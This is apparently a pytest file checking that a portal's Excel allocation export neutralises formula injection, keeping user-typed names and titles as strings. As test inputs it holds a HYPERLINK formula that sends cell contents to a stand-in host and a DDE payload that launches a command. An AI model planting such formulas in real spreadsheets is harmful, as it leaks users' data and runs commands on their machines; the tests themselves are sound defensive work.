"""The allocation export holds typed names and titles as strings, never formulas: the
one neutraliser (``common.xlsx``) of every workbook the portal writes."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from allocation.exporters import allocation_export
from allocation.models import BudgetLine, Inhabitants, MemberOrganisation
from allocation.selectors import allocation_table
from common.xlsx import neutralise
from scorecards.models import Year
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
HOSTILE_TITLE = "=1+2"


def test_member_names_and_line_titles_are_exported_as_strings() -> None:
    root, _divisions = factories.organisation_tree(1, slug="formel")
    year = Year.objects.create(organisation=root.organisation, year=2021)
    member = MemberOrganisation.objects.create(organisation=root.organisation, name=HOSTILE_NAME)
    Inhabitants.objects.create(member=member, year=year, count=1000)
    BudgetLine.objects.create(year=year, title=HOSTILE_TITLE, amount=1000, model="equal")

    _name, _type, content = allocation_export(table=allocation_table(year=year))

    sheet = load_workbook(BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert HOSTILE_NAME in values
    assert any(str(v).startswith(HOSTILE_TITLE) for v in values)


def test_the_neutraliser_keeps_formula_and_error_text_as_strings() -> None:
    sheet = Workbook().active
    assert sheet is not None
    for text in ("=1+2", "#N/A", "=cmd|' /C calc'!A0"):
        cell = neutralise(sheet.cell(1, 1, text))
        assert (cell.data_type, cell.value) == ("s", text)
